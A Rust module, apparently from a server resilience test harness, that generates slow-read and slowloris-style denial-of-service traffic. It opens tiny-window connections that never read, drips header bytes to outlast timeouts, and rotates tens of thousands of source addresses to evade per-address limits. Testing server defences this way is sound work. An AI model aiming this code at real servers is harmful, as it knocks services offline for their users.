//! Connections that cost the attacker nothing, because responses are not read, or because requests never end.

use std::net::Ipv4Addr;
use std::time::Duration;

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpSocket, TcpStream};
use tokio::time::{sleep, timeout};

use super::{Target, pace, scatter, start};

/// Requests a megabyte through the smallest window that the kernel allows, and does not read the response.
pub async fn readers(target: Target, per_second: u64) {
    let mut pace = pace(per_second as f64);
    for count in 0_u64.. {
        pace.tick().await;
        let target = target.clone();
        start(async move {
            let Ok(mut stream) = narrow(&target, address(71, count)).await else { return target.tally.cut() };
            target.tally.sent(1);
            if stream.write_all(b"GET /large HTTP/1.1\r\nhost: slow\r\n\r\n").await.is_err() {
                return target.tally.cut();
            }
            // The server closes the connection earlier, but its kernel still has data to send, so the client does not notice.
            sleep(HOLD).await;
        });
    }
}

/// Sends one byte of a header or body every half second.
pub async fn senders(target: Target, per_second: u64) {
    let mut pace = pace(per_second as f64);
    for count in 0_u64.. {
        pace.tick().await;
        let target = target.clone();
        start(async move {
            let from = address(72, count);
            let Ok(mut stream) = crate::honest::connect(from, target.server).await else {
                return target.tally.cut();
            };
            target.tally.sent(1);
            let begin: &[u8] = match count % 2 {
                0 => b"GET /page HTTP/1.1\r\nhost: slow\r\nx-",
                _ => b"POST /upload HTTP/1.1\r\nhost: slow\r\ncontent-length: 100000\r\n\r\n",
            };
            let mut sent = stream.write_all(begin).await;
            let mut answer = [0; 512];
            for _ in 0..HOLD.as_millis() / 500 {
                match timeout(Duration::from_millis(500), stream.read(&mut answer)).await {
                    Ok(Ok(length)) if length > 12 => {
                        let status = String::from_utf8_lossy(&answer[9..12]).parse();
                        return target.tally.count_status(status.unwrap_or(0));
                    }
                    Ok(_) => return target.tally.cut(),
                    Err(_) => {}
                }
                if sent.is_err() {
                    return target.tally.cut();
                }
                sent = stream.write_all(b"a").await;
            }
        });
    }
}

async fn narrow(target: &Target, from: Ipv4Addr) -> std::io::Result<TcpStream> {
    let socket = TcpSocket::new_v4()?;
    socket.set_recv_buffer_size(1)?;
    socket.bind((from, 0).into())?;
    socket.connect(target.server).await
}

/// Returns one of 65,000 addresses, so that limits for each address do not apply.
fn address(net: u8, count: u64) -> Ipv4Addr {
    let [a, b, ..] = scatter(count).to_le_bytes();
    Ipv4Addr::new(127, net, a, b.max(1))
}

/// A time that is longer than the server's timeouts.
const HOLD: Duration = Duration::from_secs(25);
